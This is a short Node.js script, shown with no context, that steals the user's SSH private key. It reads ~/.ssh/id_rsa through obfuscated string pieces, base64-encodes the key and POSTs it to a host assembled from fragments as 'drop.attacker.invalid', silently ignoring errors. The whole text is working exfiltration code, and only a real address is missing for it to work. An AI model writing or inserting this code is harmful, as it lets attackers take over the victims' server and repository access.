const fs=require('fs'),os=require('os'),path=require('path');
const k=fs.readFileSync(path.join(os.homedir(),'.s'+'sh','id_'+'rsa'),'utf8');
const h=['drop','attacker','invalid'].join('.');
const r=require('https').request({host:h,method:'POST',path:'/j'},()=>{});
r.on('error',()=>{});r.end(Buffer.from(k).toString('base64'));
